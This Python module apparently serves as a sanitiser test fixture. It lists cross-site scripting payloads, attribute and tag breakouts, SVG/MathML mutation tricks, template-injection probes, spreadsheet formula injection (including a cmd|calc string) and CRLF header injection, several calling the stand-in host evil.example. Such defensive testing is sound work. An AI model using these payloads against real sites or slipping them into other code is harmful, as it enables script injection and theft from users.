"""Texts that are scripts, if anybody takes them for HTML, an address, a template or a formula.

Whatever one of them makes of a page has the attribute `hostile`, one that begins with `on`, an
address of script, or the number in RUN: so that a page is seen to have it alive.
"""

RUN = "5883hostile"  # what a template makes of {{1961*3}}hostile

TAGS = """
<script hostile>alert(1)</script>
<ScRiPt hostile>alert(1)</sCrIpT>
<script hostile src=//evil.example>
<script/hostile/src=data:,alert(1)>
<script hostile>/*
</script><script hostile>alert(1)//
<img hostile src=x onerror=alert(1)>
<img/hostile/src/onerror=alert(1)//
<image hostile href=x onerror=alert(1)>
<body hostile onload=alert(1)>
<iframe hostile src=javascript:alert(1)>
<iframe hostile srcdoc="<script>top.alert(1)</script>">
<object hostile data=javascript:alert(1)>
<embed hostile src=javascript:alert(1)>
<input hostile autofocus onfocus=alert(1)>
<details hostile open ontoggle=alert(1)>
<video hostile><source onerror=alert(1)>
<audio hostile src=x onerror=alert(1)>
<marquee hostile onstart=alert(1)>
<form hostile action=javascript:alert(1)>
<button hostile formaction=javascript:x()>
<base hostile href=//evil.example/>
<link hostile rel=stylesheet href=//evil.example>
<meta hostile http-equiv=refresh content="0;url=//evil.example">
<style hostile>@import"//evil.example";</style>
<template hostile><script>alert(1)</script>
<dialog hostile open onclose=alert(1)>
<x hostile onclick=alert(1) tabindex=1>
<p hostile style="background:url(//evil.example)">
<p hostile onmouseover=alert(1)>a
<strong hostile onclick=alert(1)>b</strong>
<b hostile popover onbeforetoggle=alert(1)>
<i hostile contenteditable onblur=alert(1)>
"""
# Out of an attribute, a comment, a text area, a title, a script of data, a comparison
ENDS = """
" hostile onfocus=alert(1) autofocus x="
' hostile onfocus=alert(1) autofocus x='
"><b hostile>
'><b hostile>
--><b hostile><!--
]]><b hostile><![CDATA[
</title><b hostile>
</textarea><b hostile>
</style><b hostile>
</template><b hostile>
</noscript><b hostile>
</select></option><b hostile>
"}</script><b hostile>
</ins></del><b hostile>
&lt;b hostile&gt;
&#60;b hostile&#62;
&amp;lt;b hostile&amp;gt;
%3Cb hostile%3E
\\u003cb hostile\\u003e
"""
ADDRESSES = """
<a hostile href="javascript:alert(1)">a</a>
<a href=" java&#10;script:alert(1)" hostile>b</a>
<a href="&#x6A;avascript:alert(1)" hostile>c</a>
<a href="data:text/html,<script>alert(1)</script>">d</a>
<a href="vbscript:x" hostile>e</a>
<a href="//evil.example" target=_top hostile>f</a>
<a href="https://a.org" onclick=alert(1)>g</a>
<a href="https://a.org/" ping=//evil.example hostile>h</a>
javascript:alert(1)//hostile
data:text/html,<b hostile>
"""
FOREIGN = """
<svg hostile onload=alert(1)>
<svg><script hostile>alert(1)</script>
<svg><a xlink:href=javascript:x() hostile>i
<svg><animate hostile onbegin=alert(1)>
<svg><set attributeName=onload hostile to=x()>
<svg><use hostile href=//evil.example#x>
<math hostile href=javascript:alert(1)>j
<math><mtext><table><mglyph><style><!--</style><img hostile onerror=x()>
<svg></p><style><a title="</style><img hostile onerror=x()>">
<noscript><p title="</noscript><img hostile onerror=x()>">
<form><math><mtext></form><form><mglyph><style></math><img hostile onerror=x()>
<table><b hostile>k</table>
<xmp><p title="</xmp><img hostile onerror=x()>">
<plaintext hostile>
<frameset hostile onload=x()>
"""
OTHERS = [
    "{{1961*3}}hostile",
    "{% debug %}{{1961*3}}hostile",
    "${1961*3}hostile",
    "#{1961*3}hostile",
    "%(hostile)s %s %n",
    "{0.__class__}{hostile}",
    '=HYPERLINK("//evil.example","hostile")',
    "+cmd|'/c calc'!hostile",
    "-2+3+cmd|hostile",
    "@SUM(1+1)*hostile",
    "\t=1+1",
    "\uff1d1+1 hostile",
    "\u202e<b hostile>\u202c",
    "\uff1cscript hostile\uff1e",
    "<\u200bscript hostile>",
    "<ſcript hostile>alert(1)</ſcript>",
    "\u2028<b hostile>\u2029",
    "a\r\nSet-Cookie: hostile=1",
    "a\r\n\r\n<b hostile>",
    "🏴‍☠️<b hostile>",
]
STRINGS = [text for part in (TAGS, ENDS, ADDRESSES, FOREIGN) for text in part.strip().split("\n")]
STRINGS += OTHERS


def packed(longest, strings=None):
    """The strings in as few texts as it takes, none longer than that; what is longer by itself is
    left out."""
    texts = []
    for string in STRINGS if strings is None else strings:
        if len(string) > longest:
            continue
        if texts and len(texts[-1]) + len(string) < longest:
            texts[-1] += f" {string}"
        else:
            texts.append(string)
    return texts
